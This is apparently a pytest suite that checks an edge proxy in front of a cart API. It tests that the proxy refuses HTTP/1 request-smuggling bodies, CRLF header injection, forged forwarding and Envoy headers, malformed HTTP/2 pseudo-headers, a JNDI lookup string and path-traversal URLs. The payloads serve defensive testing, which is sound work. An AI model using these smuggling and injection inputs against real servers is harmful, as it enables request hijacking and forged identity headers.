"""Requests that two servers could read in two ways, and headers that pretend.

Behind another proxy, one request of an attacker must never be two, nor part of the next caller's;
and what only the edge may say must not come from outside.
"""

from __future__ import annotations

import json
import re
from collections.abc import Sequence
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import httpx
import pytest

from tests.http.edge import Edge, received
from tests.http.frames import Fields, Outcome, exchange

ITEM = b'{"productId":"a"}'
CHUNKS = b"11\r\n" + ITEM + b"\r\n0\r\n\r\n"
HIDDEN = b"GET /api/cart?siteId=hidden HTTP/1.1\r\nhost: a\r\nconnection: close\r\n\r\n"


def post(*headers: bytes, body: bytes = ITEM, version: bytes = b"HTTP/1.1") -> bytes:
    """Make a POST with these header lines, exactly."""
    lines = (b"POST /api/cart/items " + version, b"host: a", *headers, b"", b"")
    return b"\r\n".join(lines) + body


def statuses(answers: bytes) -> list[int]:
    """Read the status of each answer on a connection."""
    return [int(status) for status in re.findall(rb"HTTP/1\.1 (\d{3})", answers)]


def exchanges(edge: Edge, requests: Sequence[bytes]) -> list[bytes]:
    """Send each request on a connection of its own; a refused one is closed after a second."""
    with ThreadPoolExecutor(len(requests)) as pool:
        return list(pool.map(edge.exchange, requests))


def facts(answers: bytes) -> dict[str, Any]:
    """Read what the server has seen of the first request."""
    body = answers.partition(b"\r\n\r\n")[2].partition(b"HTTP/1.1")[0]
    found: dict[str, Any] = json.loads(json.loads(body)["notes"])
    found["metadata"] = dict(found["metadata"])
    return found


# --- where a body ends ------------------------------------------------------------------------


AMBIGUOUS = (
    ((b"content-length: 17", b"content-length: 17"), ITEM, 400),
    ((b"content-length: 17, 17",), ITEM, 400),
    ((b"content-length: +17",), ITEM, 400),
    ((b"content-length: 0x11",), ITEM, 400),
    ((b"content-length: 1 7",), ITEM, 400),
    ((b"content-length: 17;",), ITEM, 400),
    ((b"content-length: ",), ITEM, 400),
    ((b"content-length : 17",), ITEM, 400),
    ((b"content-length: 18446744073709551633",), ITEM, 400),
    ((b"content-length: 17", b"transfer-encoding: chunked"), CHUNKS, 400),
    ((b"transfer-encoding: chunked", b"content-length: 17"), CHUNKS, 400),
    ((b"transfer-encoding : chunked",), CHUNKS, 400),
    ((b"transfer-encoding: \x0bchunked",), CHUNKS, 400),
    ((b"transfer-encoding: xchunked",), CHUNKS, 501),
    ((b'transfer-encoding: "chunked"',), CHUNKS, 501),
    ((b"transfer-encoding: chunked, identity",), CHUNKS, 501),
    ((b"transfer-encoding: identity, chunked",), CHUNKS, 501),
    ((b"transfer-encoding: gzip, chunked",), CHUNKS, 501),
    ((b"transfer-encoding: chunked", b"transfer-encoding: chunked"), CHUNKS, 501),
    ((b"transfer-encoding: chunked", b"transfer-encoding: x"), CHUNKS, 501),
    ((b"transfer-encoding: chunked",), CHUNKS.replace(b"11", b"0x11"), 400),
    ((b"transfer-encoding: chunked",), CHUNKS.replace(b"11", b"-11"), 400),
    ((b"transfer-encoding: chunked",), CHUNKS.replace(b"11", b" 11"), 400),
    ((b"transfer-encoding: chunked",), CHUNKS.replace(b"11", b"10000000000000011"), 400),
    ((b"transfer-encoding: chunked",), CHUNKS.replace(b"11\r", b"11;\n"), 400),
    ((b"transfer-encoding: chunked",), CHUNKS.replace(b"\r\n", b"\n"), 400),
    ((b"transfer-encoding: chunked",), CHUNKS.replace(b"}\r\n", b"}XX"), 400),
    ((b": nameless", b"content-length: 17"), ITEM, 400),
    ((b"without a colon", b"content-length: 17"), ITEM, 400),
)


def test_where_a_body_ends_is_never_guessed(edge: Edge) -> None:
    """The connection ends with it, so that what follows is nobody's request."""
    requests = [post(*headers, body=body) + HIDDEN for headers, body, _ in AMBIGUOUS]
    for (headers, body, status), answers in zip(AMBIGUOUS, exchanges(edge, requests), strict=True):
        assert statuses(answers) == [status], (headers, body)
        assert b"hidden" not in answers


@pytest.mark.parametrize(
    ("headers", "body"),
    [
        ((b"content-length:\t017",), ITEM),
        ((b"Transfer-Encoding: CHUNKED",), CHUNKS),
        ((b"transfer-encoding:\r\n chunked",), CHUNKS),
        ((b"transfer-encoding: chunked",), CHUNKS.replace(b"11", b"11;a=b")),
        ((b"connection: content-length", b"content-length: 17"), ITEM),
        ((b"expect: 200-ok", b"content-length: 17"), ITEM),
    ],
)
def test_what_can_be_read_in_one_way_alone_is_one_request(
    edge: Edge, headers: tuple[bytes, ...], body: bytes
) -> None:
    answers = edge.exchange(post(*headers, body=body) + HIDDEN)
    assert statuses(answers) == [201, 200]
    assert facts(answers)["request"] == {"item": {"productId": "a"}}


def test_a_request_in_a_body_stays_a_body(edge: Edge) -> None:
    for headers, body in (
        ((b"content-length: %d" % len(HIDDEN),), HIDDEN),
        ((b"transfer-encoding: chunked",), b"%x\r\n%s\r\n0\r\n\r\n" % (len(HIDDEN), HIDDEN)),
    ):
        answers = edge.exchange(post(*headers, b"connection: close", body=body))
        assert statuses(answers) == [400]
        assert b"hidden" not in answers


def test_trailers_are_no_headers(edge: Edge) -> None:
    """What is checked in headers must not arrive after the check."""
    trailers = (
        b"authorization: Bearer evil\r\nx-company-id: evil\r\n"
        b"x-envoy-original-path: /evil\r\nx-forwarded-for: 203.0.113.9\r\ngrpc-status: 0\r\n"
    )
    body = CHUNKS.removesuffix(b"\r\n") + trailers + b"\r\n"
    answers = edge.exchange(post(b"transfer-encoding: chunked", b"connection: close", body=body))
    assert statuses(answers) == [201]
    assert "evil" not in str(facts(answers))
    outcome = exchange(
        edge.port,
        REQUEST,
        ITEM,
        trailers=((b"authorization", b"Bearer evil"), (b"x-company-id", b"evil")),
    )
    assert "cart" in json.loads(outcome.body)["id"]
    assert b"evil" not in outcome.body


@pytest.mark.parametrize("parting", [b"\r", b"\r ", b"\r\n ", b"\r\n\t"])
def test_a_value_cannot_bring_a_header_of_its_own(edge: Edge, parting: bytes) -> None:
    """A lone CR or a folded line is part of the value before it, or nothing."""
    smuggled = b"x-a: b" + parting + b"x-company-id: evil"
    answers = edge.exchange(post(smuggled, b"content-length: 17", b"connection: close"))
    assert statuses(answers) == [201]
    assert "x-company-id" not in facts(answers)["metadata"]


def test_a_value_with_a_control_character_is_refused(edge: Edge) -> None:
    octets = (b"\0", b"\x01", b"\x0b", b"\x1b", b"\x7f")
    requests = [post(b"x-company-id: a" + octet + b"b", b"content-length: 17") for octet in octets]
    assert [statuses(answers) for answers in exchanges(edge, requests)] == [[400]] * len(octets)


# --- HTTP/2 -----------------------------------------------------------------------------------

REQUEST: Fields = (
    (b":method", b"POST"),
    (b":scheme", b"http"),
    (b":authority", b"a"),
    (b":path", b"/api/cart/items"),
)


def changed(name: bytes, value: bytes) -> Fields:
    return [(key, value if key == name else kept) for key, kept in REQUEST]


FORBIDDEN: tuple[Fields, ...] = (
    *(
        [*REQUEST, field]
        for field in (
            (b"transfer-encoding", b"chunked"),
            (b"connection", b"close"),
            (b"upgrade", b"h2c"),
            (b"keep-alive", b"1"),
            (b"proxy-connection", b"keep-alive"),
            (b"te", b"chunked"),
            (b"content-length", b"0"),
            (b"content-length", b"99"),
            (b"content-length", b"+17"),
            (b"x-a", b"b\r\nx-company-id: evil"),
            (b"x-a", b"b\nx-company-id: evil"),
            (b"x-a", b"b\rx-company-id: evil"),
            (b"x-a", b"b\0"),
            (b"X-Company-Id", b"evil"),
            (b"x-a:b", b"c"),
            (b"x-a ", b"c"),
            (b"x-a\r\nx-company-id", b"evil"),
            (b"", b"c"),
            (b"x_company_id", b"evil"),
            (b":path", b"/api/public/cart"),
            (b":evil", b"1"),
            (b":status", b"200"),
            (b":protocol", b"websocket"),
        )
    ),
    [*REQUEST, (b"content-length", b"17"), (b"content-length", b"18")],
    [*REQUEST[:3], (b"x-a", b"b"), REQUEST[3]],
    REQUEST[:3],
    changed(b":path", b""),
    changed(b":path", b"api/cart/items"),
    changed(b":path", b"http://evil.example/api/cart/items"),
    changed(b":path", b"*"),
    changed(b":path", b"/api/cart/items HTTP/1.1"),
    changed(b":path", b"/api/cart/items HTTP/1.1\r\nx-company-id: evil"),
    changed(b":method", b"POST /evil"),
    changed(b":method", b"POST /evil HTTP/1.1\r\nx-company-id: evil"),
    changed(b":authority", b"a\r\nx-company-id: evil"),
    changed(b":authority", b"user@a/b?c"),
    changed(b":scheme", b"http://evil.example/?"),
)


def test_what_http_2_forbids_ends_the_stream(edge: Edge) -> None:
    """Translated for a server that speaks HTTP/1, it would be another request there."""
    with ThreadPoolExecutor(len(FORBIDDEN)) as pool:
        outcomes = list(pool.map(lambda fields: exchange(edge.port, fields, ITEM), FORBIDDEN))
    for fields, outcome in zip(FORBIDDEN, outcomes, strict=True):
        assert outcome == Outcome(b"", reset=True), fields


def test_http_2_by_hand_is_served_where_it_is_right(edge: Edge) -> None:
    """Else the refusals above would prove nothing."""
    outcome = exchange(edge.port, [*REQUEST, (b"content-length", b"17")], ITEM)
    assert not outcome.reset
    assert json.loads(outcome.body)["id"] == "cart"


def test_connect_makes_no_tunnel(edge: Edge) -> None:
    fields = ((b":method", b"CONNECT"), (b":authority", b"127.0.0.1:%d" % edge.worker_ports[0]))
    outcome = exchange(edge.port, fields, b"anything")
    assert json.loads(outcome.body)["reason"] == "ROUTE_NOT_FOUND"


# --- what callers say about themselves --------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        *("x-forwarded-host", "x-forwarded-port", "x-real-ip", "true-client-ip", "forwarded"),
        *("x-cluster-client-ip", "x-original-url", "x-rewrite-url", "x-http-method-override"),
        *("x-method-override", "via", "x-forwarded-client-cert", "x-b3-traceid"),
        *("x-envoy-force-trace", "x-envoy-expected-rq-timeout-ms", "x-envoy-peer-metadata"),
        *("x-envoy-upstream-alt-stat-name", "x-envoy-max-retries", "x-envoy-hedge-on-per-try"),
        *("x-envoy-ip-tags", "x-envoy-internal", "x-envoy-downstream-service-cluster"),
    ],
)
def test_a_header_that_elsewhere_means_much_changes_nothing(api: httpx.Client, name: str) -> None:
    values = ("DELETE", "/api/public/cart", "203.0.113.9", "1")
    for value in values:
        seen = received(api.post("/api/cart/items", content=ITEM, headers={name: value}))
        metadata = seen["metadata"]
        assert metadata["x-envoy-original-path"] == "/api/cart/items"
        assert metadata["x-forwarded-for"] == "127.0.0.1"
        assert not (name.startswith("x-envoy-") and name in metadata)
        assert seen["request"] == {"item": {"productId": "a"}}
        assert 10 < seen["seconds"] <= 15


def test_no_header_of_grpc_comes_from_a_rest_caller(api: httpx.Client) -> None:
    names = (
        "status",
        "message",
        "encoding",
        "accept-encoding",
        "previous-rpc-attempts",
        "tags-bin",
    )
    headers = {f"GRPC-{name}": "1" for name in names} | {"grpc-timeout": "1n"}
    seen = received(api.post("/api/cart/items", content=ITEM, headers=headers))
    assert not [name for name in seen["metadata"] if name.startswith("grpc-")]


@pytest.mark.parametrize(
    "lines",
    [
        (b"host: evil.example",),
        (b"x-forwarded-host: evil.example",),
        (b"connection: x-company-id, authorization, x-request-id",),
    ],
    ids=["second host", "forwarded host", "named by connection"],
)
def test_hosts_and_hops_decide_nothing(edge: Edge, lines: tuple[bytes, ...]) -> None:
    known = (b"x-company-id: c", b"authorization: Bearer t", b"content-length: 17")
    answers = edge.exchange(post(*lines, *known) + HIDDEN)
    assert statuses(answers)[0] == 201
    metadata = facts(answers)["metadata"]
    assert metadata["x-forwarded-for"] == "127.0.0.1"
    assert re.fullmatch(r"[0-9a-f-]{36}", metadata["x-request-id"])
    assert metadata["x-envoy-original-path"] == "/api/cart/items"


@pytest.mark.parametrize(
    ("target", "status"),
    [
        ("http://evil.example/api/cart", 200),
        ("http://127.0.0.1:1@a/api/cart", 200),
        ("http://evil.example/nope", 404),
        ("//evil.example/api/cart", 400),
        ("file:///api/cart", 400),
        ("evil.example:80", 400),
        ("*", 400),
    ],
)
def test_a_target_with_a_host_is_answered_here_or_not_at_all(
    edge: Edge, target: str, status: int
) -> None:
    """The edge is no proxy to anywhere."""
    response = edge.get_raw(target)
    assert response.status_code == status
    if status == 200:
        assert received(response)["metadata"]["x-envoy-original-path"] == "/api/cart"


@pytest.mark.parametrize("name", ["x-company-id", "x-session-token", "authorization"])
def test_a_header_given_twice_arrives_as_such(edge: Edge, name: str) -> None:
    """Not one of the two by chance: the server must see that there were two, to refuse them."""
    lines = [f"{name}: Bearer one".encode(), f"{name.title()}: Bearer two".encode()]
    answers = edge.exchange(post(*lines, b"content-length: 17", b"connection: close"))
    assert statuses(answers) == [201]
    body = json.loads(answers.partition(b"\r\n\r\n")[2])
    metadata = json.loads(body["notes"])["metadata"]
    values = [value for key, value in metadata if key == name]
    assert values in (["Bearer one", "Bearer two"], ["Bearer one,Bearer two"])


@pytest.mark.parametrize(
    "sent",
    [
        b"a\r\n set-cookie: b=c",
        b'a","level":"error',
        b"\x1b[31m",
        b"${jndi:ldap://evil.example}",
        b"%START_TIME%",
        b"first,second",
    ],
)
def test_a_request_id_that_could_forge_is_never_repeated(edge: Edge, sent: bytes) -> None:
    answers = edge.exchange(
        post(b"x-request-id: " + sent, b"content-length: 17", b"connection: close")
    )
    head = answers.partition(b"\r\n\r\n")[0]
    assert sent not in answers
    assert b"set-cookie" not in head.lower()
    assert re.search(rb"\r\nx-request-id: [0-9a-f-]{16,36}\r\n", head + b"\r\n")


# --- paths ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "status"),
    [
        ("/api/cart", 200),
        ("/api/cart/", 200),
        ("/api/cart/items/%2e%2e/%2E%2E/cart", 400),
        ("/api/cart/items/..", 400),
        ("/api/cart/items/%252e%252e", 405),
        ("/api/cart/items/..%2f..%2fcart", 405),
        ("/api/public%2fcart", 404),
        ("/api/public%5ccart", 404),
        ("/api/cart\\..\\cart", 404),
        ("/api/cart;company=evil", 404),
        ("/api/cart%0d%0aset-cookie:%20a=b", 404),
        ("/api/../../etc/passwd", 400),
        ("/%2e%2e/commerce.cart.v1.CartService/GetCart", 400),
    ],
)
def test_the_path_that_is_served_is_the_one_that_is_logged_and_limited(
    edge: Edge, path: str, status: int
) -> None:
    response = edge.get_raw(path)
    assert response.status_code == status
    assert "set-cookie" not in response.headers
    if status == 200:
        served = received(response)["metadata"]["x-envoy-original-path"]
        assert served.rstrip("/") == "/api/cart"


def test_an_escaped_line_break_of_a_path_stays_escaped(edge: Edge) -> None:
    """It arrives as text in a field, and in no header."""
    path = "/api/cart/items/x%0d%0aset-cookie:%20a=b"
    response = httpx.delete(httpx.URL(edge.url, raw_path=path.encode()))
    seen = received(response)
    assert seen["request"] == {"itemId": "x\r\nset-cookie: a=b"}
    assert "set-cookie" not in {*response.headers, *seen["metadata"]}
